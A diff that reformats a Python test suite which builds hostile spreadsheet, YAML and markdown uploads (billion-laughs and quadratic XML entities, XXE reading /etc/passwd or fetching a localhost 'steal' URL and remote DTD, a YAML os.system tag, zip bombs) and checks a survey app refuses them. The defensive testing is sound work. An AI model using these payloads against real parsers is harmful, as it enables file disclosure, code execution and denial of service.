@@ -33,17 +33,23 @@ from tests.conftest import sign_in
 SECONDS = 5.0
 WALL_SECONDS = 90
 MEGABYTES = 512
-SURVEY = [("type", "name", "label"), ("select_one yn", "q1", "Would you tell a friend?"),
-          ("text", "q2", "What would help?")]
+SURVEY = [
+    ("type", "name", "label"),
+    ("select_one yn", "q1", "Would you tell a friend?"),
+    ("text", "q2", "What would help?"),
+]
 CHOICES = [("list_name", "name", "label"), ("yn", "yes", "Yes"), ("yn", "no", "No")]
 SETTINGS = [("form_id", "version"), ("hostile", "1")]
-SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
-              b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+SHEET_HEAD = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
+    b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+)
 SHEET_TAIL = b"</sheetData></worksheet>"
-LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
-          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
-                     for i in range(1, 10))
-          + b"]>\n")
+LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
+    + b"]>\n"
+)
 
 
 # ----------------------------------------------------------------------------- file builders
@@ -62,13 +68,16 @@ def _workbook(survey=SURVEY, choices=CHOICES, settings=SETTINGS, *, sheets=("sur
     return buffer.getvalue()
 
 
-def _rewrite(base: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
-             level: int = 6) -> bytes:
+def _rewrite(
+    base: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None, level: int = 6
+) -> bytes:
     """The workbook with some parts replaced and others added."""
     replace, add = replace or {}, add or {}
     out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
-                                                                      compresslevel=level) as target:
+    with (
+        zipfile.ZipFile(io.BytesIO(base)) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target,
+    ):
         for info in source.infolist():
             target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
         for name, data in add.items():
@@ -79,8 +88,10 @@ def _rewrite(base: bytes, *, replace: dict[str, bytes] | None = None, add: dict[
 def _streamed_sheet(path: Path, rows: int, row_xml: Callable[[int], bytes], *, member="xl/worksheets/sheet1.xml"):
     """A workbook whose survey sheet is written in chunks (a huge part without a huge string)."""
     base = _workbook()
-    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
-                                                                      compresslevel=9) as target:
+    with (
+        zipfile.ZipFile(io.BytesIO(base)) as source,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
+    ):
         for info in source.infolist():
             if info.filename != member:
                 target.writestr(info.filename, source.read(info.filename))
@@ -96,13 +107,18 @@ def _streamed_sheet(path: Path, rows: int, row_xml: Callable[[int], bytes], *, m
 
 
 def _sheet(rows_xml: bytes, prolog: bytes = b"") -> bytes:
-    return (prolog or b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n') + SHEET_HEAD.split(b"\n", 1)[1] \
-        + rows_xml + SHEET_TAIL
+    return (
+        (prolog or b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n')
+        + SHEET_HEAD.split(b"\n", 1)[1]
+        + rows_xml
+        + SHEET_TAIL
+    )
 
 
 def _inline_row(number: int, *values: bytes) -> bytes:
-    cells = b"".join(b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (bytes([65 + i]), number, v)
-                     for i, v in enumerate(values))
+    cells = b"".join(
+        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (bytes([65 + i]), number, v) for i, v in enumerate(values)
+    )
     return b'<row r="%d">%s</row>' % (number, cells)
 
 
@@ -126,7 +142,7 @@ def lying_zip_bomb(path: Path) -> None:
         while (start := data.find(signature, start)) != -1:
             name_offset = 46 if signature == b"PK\x01\x02" else 30
             name_length = struct.unpack_from("<H", data, start + (28 if signature == b"PK\x01\x02" else 26))[0]
-            if bytes(data[start + name_offset:start + name_offset + name_length]) == name:
+            if bytes(data[start + name_offset : start + name_offset + name_length]) == name:
                 struct.pack_into("<I", data, start + size_offset, 1024)
             start += 4
     path.write_bytes(bytes(data))
@@ -146,8 +162,12 @@ def nested_zip(path: Path) -> None:
         with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as archive:
             archive.writestr(f"level{depth}.zip", inner.getvalue())
         inner = outer
-    path.write_bytes(_rewrite(_workbook(), add={"xl/embeddings/oleObject1.bin": inner.getvalue(),
-                                                 "xl/embeddings/Package1.zip": inner.getvalue()}))
+    path.write_bytes(
+        _rewrite(
+            _workbook(),
+            add={"xl/embeddings/oleObject1.bin": inner.getvalue(), "xl/embeddings/Package1.zip": inner.getvalue()},
+        )
+    )
 
 
 def self_referencing_zip(path: Path) -> None:
@@ -159,44 +179,69 @@ def self_referencing_zip(path: Path) -> None:
 
 def billion_laughs_sheet(path: Path) -> None:
     prolog = LAUGHS.replace(b"lolz", b"worksheet")
-    path.write_bytes(_rewrite(_workbook(), replace={"xl/worksheets/sheet1.xml": _sheet(
-        _header_rows(_inline_row(2, b"text", b"q1", b"&lol9;")), prolog)}))
+    path.write_bytes(
+        _rewrite(
+            _workbook(),
+            replace={
+                "xl/worksheets/sheet1.xml": _sheet(_header_rows(_inline_row(2, b"text", b"q1", b"&lol9;")), prolog)
+            },
+        )
+    )
 
 
 def billion_laughs_shared_strings(path: Path) -> None:
     strings = LAUGHS.replace(b"lolz", b"sst") + (
         b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
-        b"<si><t>&lol9;</t></si></sst>")
+        b"<si><t>&lol9;</t></si></sst>"
+    )
     path.write_bytes(_rewrite(_workbook(), add={"xl/sharedStrings.xml": strings}))
 
 
 def quadratic_blowup(path: Path) -> None:
     entity = b"x" * 50_000
-    strings = (b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY a "' + entity + b'">]>\n'
-               b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
-               + b"&a;" * 50_000 + b"</t></si></sst>")
+    strings = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY a "' + entity + b'">]>\n'
+        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
+        + b"&a;" * 50_000
+        + b"</t></si></sst>"
+    )
     path.write_bytes(_rewrite(_workbook(), add={"xl/sharedStrings.xml": strings}))
 
 
 def xxe_local_file(path: Path) -> None:
     prolog = b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
-    path.write_bytes(_rewrite(_workbook(), replace={"xl/worksheets/sheet1.xml": _sheet(
-        _header_rows(_inline_row(2, b"note", b"leak", b"&xxe;")), prolog)}))
+    path.write_bytes(
+        _rewrite(
+            _workbook(),
+            replace={
+                "xl/worksheets/sheet1.xml": _sheet(_header_rows(_inline_row(2, b"note", b"leak", b"&xxe;")), prolog)
+            },
+        )
+    )
 
 
 def xxe_local_network(path: Path, port: int) -> None:
-    strings = (b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY net SYSTEM "http://127.0.0.1:%d/steal">]>\n'
-               % port + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-               b"<si><t>&net;</t></si></sst>")
+    strings = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY net SYSTEM "http://127.0.0.1:%d/steal">]>\n'
+        % port
+        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b"<si><t>&net;</t></si></sst>"
+    )
     path.write_bytes(_rewrite(_workbook(), add={"xl/sharedStrings.xml": strings}))
 
 
 def xxe_parameter_entity(path: Path, port: int) -> None:
     # The lower-case/whitespace variant: a parameter entity fetching a remote DTD.
-    prolog = (b'<?xml version="1.0"?>\n<!doctype worksheet [ <!entity %% remote SYSTEM '
-              b'"http://127.0.0.1:%d/evil.dtd"> %%remote; ]>\n' % port)
-    path.write_bytes(_rewrite(_workbook(), replace={"xl/worksheets/sheet1.xml": _sheet(
-        _header_rows(_inline_row(2, b"text", b"q1", b"x")), prolog)}))
+    prolog = (
+        b'<?xml version="1.0"?>\n<!doctype worksheet [ <!entity %% remote SYSTEM '
+        b'"http://127.0.0.1:%d/evil.dtd"> %%remote; ]>\n' % port
+    )
+    path.write_bytes(
+        _rewrite(
+            _workbook(),
+            replace={"xl/worksheets/sheet1.xml": _sheet(_header_rows(_inline_row(2, b"text", b"q1", b"x")), prolog)},
+        )
+    )
 
 
 def path_traversal(path: Path) -> None:
@@ -222,7 +267,8 @@ def _with_macros(base: bytes) -> bytes:
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         types = archive.read("[Content_Types].xml").replace(
             b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
-            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
+            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+        )
     return _rewrite(data, replace={"[Content_Types].xml": types})
 
 
@@ -252,8 +298,16 @@ def huge_cell(path: Path) -> None:
 def wrong_types(path: Path) -> None:
     import datetime as dt
 
-    path.write_bytes(_workbook(survey=[("type", "name", "label"), (123, dt.date(2020, 1, 1), 4.5),
-                                       (True, None, dt.datetime(2020, 1, 1)), ("=1+1", "=HYPERLINK(\"x\")", 7)]))
+    path.write_bytes(
+        _workbook(
+            survey=[
+                ("type", "name", "label"),
+                (123, dt.date(2020, 1, 1), 4.5),
+                (True, None, dt.datetime(2020, 1, 1)),
+                ("=1+1", '=HYPERLINK("x")', 7),
+            ]
+        )
+    )
 
 
 def missing_survey_sheet(path: Path) -> None:
@@ -301,8 +355,9 @@ def yaml_billion_laughs(path: Path) -> None:
 
 
 def yaml_python_tags(path: Path) -> None:
-    path.write_text("sauti: 1\nid: !!python/object/apply:os.system ['touch /tmp/sauti-owned']\n"
-                    "version: !!python/name:os.system\n")
+    path.write_text(
+        "sauti: 1\nid: !!python/object/apply:os.system ['touch /tmp/sauti-owned']\nversion: !!python/name:os.system\n"
+    )
 
 
 def yaml_deep_nesting(path: Path) -> None:
@@ -315,8 +370,9 @@ def markdown_huge(path: Path) -> None:
 
 
 def catastrophic_regex(path: Path) -> None:
-    path.write_text("| survey |\n| | type | name | label | constraint |\n"
-                    "| | text | q1 | Your word | regex(., '^(a+)+$') |\n")
+    path.write_text(
+        "| survey |\n| | type | name | label | constraint |\n| | text | q1 | Your word | regex(., '^(a+)+$') |\n"
+    )
 
 
 def oversized(path: Path) -> None:
@@ -402,8 +458,9 @@ def _child(app, client, path: str, filename: str, results) -> None:
 
     def web() -> tuple:
         with open(path, "rb") as handle:
-            response = client.post("/admin/instruments", data={"file": (handle, filename)},
-                                   content_type="multipart/form-data")
+            response = client.post(
+                "/admin/instruments", data={"file": (handle, filename)}, content_type="multipart/form-data"
+            )
         return response.status_code, response.get_data(as_text=True)
 
     def cli() -> tuple:
@@ -483,9 +540,11 @@ def test_every_hostile_file_is_refused_quickly_and_within_memory(app, admin, lis
             worst["megabytes"] = max(worst["megabytes"], report[step]["megabytes"])
             if report[step]["seconds"] > SECONDS or report[step]["megabytes"] > MEGABYTES:
                 problems.append(f"{step} took {report[step]['seconds']:.1f} s and {report[step]['megabytes']:.0f} MB")
-        print(f"{name}: web {web_status} {report['web']['seconds']:.2f} s CPU ({report['web']['wall']:.2f} s), "
-              f"{report['web']['megabytes']:.0f} MB; cli {cli_status} {report['cli']['seconds']:.2f} s CPU, "
-              f"{report['cli']['megabytes']:.0f} MB")
+        print(
+            f"{name}: web {web_status} {report['web']['seconds']:.2f} s CPU ({report['web']['wall']:.2f} s), "
+            f"{report['web']['megabytes']:.0f} MB; cli {cli_status} {report['cli']['seconds']:.2f} s CPU, "
+            f"{report['cli']['megabytes']:.0f} MB"
+        )
         if problems:
             failures.append((name, problems))
     with pytest.raises(BlockingIOError):
@@ -505,8 +564,9 @@ def test_every_hostile_file_is_refused_quickly_and_within_memory(app, admin, lis
 
 def test_the_untampered_workbook_these_files_start_from_is_accepted(app, admin) -> None:
     # The control: each refusal above comes from what was done to the file, not from the base.
-    response = admin.post("/admin/instruments", data={"file": (io.BytesIO(_workbook()), "form.xlsx")},
-                          content_type="multipart/form-data")
+    response = admin.post(
+        "/admin/instruments", data={"file": (io.BytesIO(_workbook()), "form.xlsx")}, content_type="multipart/form-data"
+    )
     assert response.status_code == 200 and "hostile" in response.get_data(as_text=True)
     assert not _active_parts(_workbook())
 
@@ -515,8 +575,11 @@ def test_a_macro_enabled_workbook_is_read_with_its_macros_ignored(app, admin, tm
     # Issue 19: pyxform reads .xlsm forms; the macros are never run, only the sheets are read.
     path = tmp_path / "form.xlsm"
     macros_xlsm(path)
-    response = admin.post("/admin/instruments", data={"file": (io.BytesIO(path.read_bytes()), "form.xlsm")},
-                          content_type="multipart/form-data")
+    response = admin.post(
+        "/admin/instruments",
+        data={"file": (io.BytesIO(path.read_bytes()), "form.xlsm")},
+        content_type="multipart/form-data",
+    )
     page = response.get_data(as_text=True)
     assert response.status_code == 200 and "hostile" in page and "macros were ignored" in page
     from survey.cli import instruments_validate
